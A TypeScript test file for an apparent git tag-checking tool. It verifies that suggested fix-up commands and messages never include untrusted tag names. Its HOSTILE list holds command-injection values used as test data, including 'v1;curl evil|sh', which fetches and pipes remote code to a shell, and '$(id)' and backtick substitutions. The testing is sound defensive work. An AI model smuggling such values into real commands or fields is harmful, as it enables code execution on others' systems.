import { describe, expect, it } from 'vitest';
import { tagRefOf } from '../../../shared/model/tag-ref.ts';
import {
  deletedTag,
  lightweightTag,
  malformedTag,
  movedTag,
  sayTagRef,
  signTag,
} from '../../../shared/trust/tag-offence.ts';
import { oidOf } from '../../support/small-history.ts';
import { createTrustedTagState } from '../../support/tag-states.ts';

/** git takes these as names: whoever may push a tag chooses one. */
const HOSTILE = ['v1;curl evil|sh', 'v$(id)', "v'1", 'v`id`', 'v&1', 'v\u202e1', '$HOME'];

describe('the name of a tag (rules 4.9, 5.2)', () => {
  it.each(HOSTILE)('%s stands in no command', (name) => {
    const state = createTrustedTagState('shop', name);
    const offences = [
      ...[movedTag(state, oidOf('e')), deletedTag(state)],
      ...[lightweightTag(name, oidOf('e')), malformedTag(name, oidOf('e'), 'it is odd.')],
    ];
    for (const { message, nextStep } of offences) {
      expect(nextStep).not.toContain(name);
      expect(nextStep).toContain('NAME');
      expect(message).not.toMatch(/[`\u202e]/);
    }
    expect(signTag(name, 'COMMIT')).not.toContain(name);
  });

  it('stands in commands where it is plain, and is bounded where it is shown', () => {
    const state = createTrustedTagState('shop', 'release/v1.0');
    expect(movedTag(state, oidOf('e')).nextStep).toContain(
      `git push --force origin ${oidOf('d')}:refs/tags/release/v1.0`,
    );
    expect(sayTagRef(tagRefOf('shop', 'x'.repeat(240))).length).toBeLessThan(150);
  });
});
